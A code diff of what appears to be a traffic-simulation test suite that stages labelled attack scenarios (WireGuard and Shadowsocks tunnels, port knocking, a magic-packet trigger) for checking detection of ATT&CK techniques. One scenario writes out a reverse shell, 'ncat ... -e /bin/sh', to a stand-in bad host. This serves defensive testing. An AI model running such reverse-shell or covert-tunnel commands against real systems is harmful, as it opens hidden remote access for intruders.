@@ -60,7 +60,7 @@ def wireguard(net: Network, server_address: str, port: int, times: int, idle: fl
         file = str(net.work / f"wg-{host.name}.key")
         private[host.name], public[host.name] = file, host.run(f"umask 77; wg genkey | tee {file} | wg pubkey", note=False).strip()
         host.start("env WG_PROCESS_FOREGROUND=1 wireguard-go -f wg0")
-        host.wait_until(lambda h=host: h.quietly("wg show wg0").returncode == 0, "wireguard-go's wg0")
+        host.wait_for_device("wg0")
     net.inet.run(f"wg set wg0 listen-port {port} private-key {private['inet']} peer {public['c1']} allowed-ips 10.9.0.2/32; ip addr add 10.9.0.1/24 dev wg0; ip link set wg0 up")
     net.c1.run(f"wg set wg0 private-key {private['c1']} peer {public['inet']} allowed-ips 10.9.0.0/24 endpoint {server_address}:{port} persistent-keepalive 5; "
                "ip addr add 10.9.0.2/24 dev wg0; ip link set wg0 up")  # fmt: skip
@@ -81,7 +81,7 @@ def wireguard_53(net: Network) -> None:
     wireguard(net, at.BAD, 53, 2, 35)
 
 
-@malicious("shadowsocks-8388", "T1090.002 T1573.001", tools="shadowsocks-libev curl", talks=f"c1>{at.BAD}:8388/tcp", expects=["T1573.001"], seconds=45)
+@malicious("shadowsocks-8388", "T1090.002 T1573.001", tools="shadowsocks-libev curl", talks=f"c1>{at.BAD}:8388/tcp", expects=["T1573"], seconds=45)
 def shadowsocks(net: Network) -> None:
     """shadowsocks-libev (aes-256-gcm) on 8388; other sites are read through it"""
     net.inet.start(f"ss-server -s {at.BAD} -p 8388 -k pw -m aes-256-gcm", listens="8388/tcp")
@@ -122,7 +122,7 @@ def obfs4(net: Network) -> None:
                 LOOK_AROUND, pause=2)  # fmt: skip
 
 
-@malicious("port-knock-ssh", "T1205.001", tools="knockd openssh-client", talks=f"{at.BAD}>c1:22/tcp", expects=["T1205.001"], seconds=45)
+@malicious("port-knock-ssh", "T1205.001", tools="knockd openssh-client", talks=f"{at.BAD}>c1:22/tcp", expects=["T1205"], seconds=45)
 def knock(net: Network) -> None:
     """three ports of the client are knocked at from outside, then ssh to a port that opens"""
     sshd(net, net.c1, at.C1, 22)
@@ -136,7 +136,7 @@ def knock(net: Network) -> None:
     net.inet.type(f"{ssh(net)} -b {at.BAD} root@{at.C1}", LOOK_AROUND)
 
 
-@malicious("port-knock-udp", "T1205.001 T1205.002", tools="ncat socat", talks=f"c1>{at.BAD}:8443/tcp", expects=["T1205.001"], seconds=40)
+@malicious("port-knock-udp", "T1205.001 T1205.002", tools="ncat socat", talks=f"c1>{at.BAD}:8443/tcp", expects=["T1205"], seconds=40)
 def wake_up(net: Network) -> None:
     """one datagram with a magic word to a closed port; who listens on the packet socket connects back with a shell"""
     net.c1.start(f"python3 {TOOLS}/wake_up.py W4KEUP ncat {at.BAD} 8443 -e /bin/sh", settle=1)
